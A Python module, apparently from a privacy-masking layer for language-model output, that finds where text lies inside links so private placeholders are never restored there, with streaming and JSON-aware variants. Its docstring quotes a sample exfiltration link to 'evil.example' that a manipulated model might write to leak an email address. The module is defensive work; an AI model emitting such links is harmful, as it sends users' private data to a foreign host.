"""Where a text is inside a link, so that nothing private is put there.

A model can be talked into writing `![](https://evil.example/?q=[EMAIL_1_k7q2xw])`. Restoring that
placeholder would hand the original to a foreign host as soon as the page shows the picture. So a
placeholder is never restored inside a link. `unmask` asks `LinkWatch` where it is; `mask` asks
`links_in` about the caller's text and masks a link that holds private data as a whole, so that no
placeholder ever stands inside a link of the caller's own. Both run the same two steps below.

A link begins to count after its mark: two slashes of either kind, `http:`, `https:`, `www.`, or a
character reference that can stand for one of these. It ends at white space; if a quote or `<`
stands directly before it, then at the matching one or at the end of the line, because between
those a link may hold spaces.
"""

import re
from collections.abc import Iterator
from typing import Final

_mark: Final = re.compile(r"[/\\]{2}|https?:|www\.|&(?:\#|sol;|bsol;|colon;)", re.I | re.A)
_scheme: Final = re.compile(r"[a-z0-9+.\-]{1,20}:?\Z", re.I | re.A)
_ends: Final = {
    "": re.compile(r"\s"),
    '"': re.compile(r'["\r\n]'),
    "'": re.compile(r"['\r\n]"),
    "`": re.compile(r"[`\r\n]"),
    "<": re.compile(r"[>\r\n]"),
}
_reach: Final = 32  # how far back a mark, its scheme and its quote can lie


def _opening(text: str, position: int) -> tuple[int, int, str] | None:
    """The next link: where it starts, where its mark ends, and the quote before it, if any."""
    mark = _mark.search(text, position)
    if mark is None:
        return None
    start = mark.start()
    scheme = _scheme.search(text[max(position, start - 21) : start])
    if scheme and mark[0][0] in "/\\":
        start -= len(scheme[0])
    before = text[start - 1] if start > position else ""
    return start, mark.end(), before if before in _ends else ""


def links_in(text: str) -> Iterator[tuple[int, int, int]]:
    """(start, mark, end) of each link: inside it from `mark` to `end`; it begins at `start`."""
    position = 0
    while opening := _opening(text, position):
        start, mark, quote = opening
        close = _ends[quote].search(text, mark)
        position = close.end() if close else len(text)
        yield start, mark, close.start() if close else len(text)


class LinkWatch:
    """Follows a text that comes in pieces and knows whether its end is inside a link."""

    def __init__(self) -> None:
        self._quote: str | None = None  # what ends the link we are in; None outside
        self._tail = ""

    @property
    def inside(self) -> bool:
        return self._quote is not None

    def reset(self) -> None:
        self._quote, self._tail = None, ""

    def feed(self, piece: str) -> None:
        text, position = self._tail + piece, 0
        mark = len(self._tail)
        while True:
            if self._quote is None:
                opening = _opening(text, position)
                if opening is None:
                    break
                _, mark, self._quote = opening
            close = _ends[self._quote].search(text, mark)
            if close is None:
                break
            self._quote, position = None, close.end()
        self._tail = "" if self.inside else text[position:][-_reach:]


class JsonLinkWatch(LinkWatch):
    """The same for JSON text: it looks at what the strings say, and a string ends every link."""

    _unit: Final = re.compile(r'"|\\u[0-9a-fA-F]{4}|\\[^u]|[^"\\]+|\\u|\\', re.DOTALL)
    _unfinished: Final = re.compile(r"\\(?:u[0-9a-fA-F]{0,3})?\Z")
    _short: Final = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}

    def __init__(self) -> None:
        super().__init__()
        self._escape = ""

    def feed(self, piece: str) -> None:
        text = self._escape + piece
        complete = 0
        for unit in self._unit.finditer(text):
            if self._unfinished.match(text, unit.start()):
                break
            self._take(unit[0])
            complete = unit.end()
        self._escape = text[complete:]

    def _take(self, unit: str) -> None:
        if unit == '"':
            self.reset()
        elif unit[0] != "\\":
            super().feed(unit)
        elif len(unit) == 6:
            super().feed(chr(int(unit[2:], 16)))
        elif len(unit) == 2 and unit != "\\u":
            super().feed(self._short.get(unit[1], unit[1]))
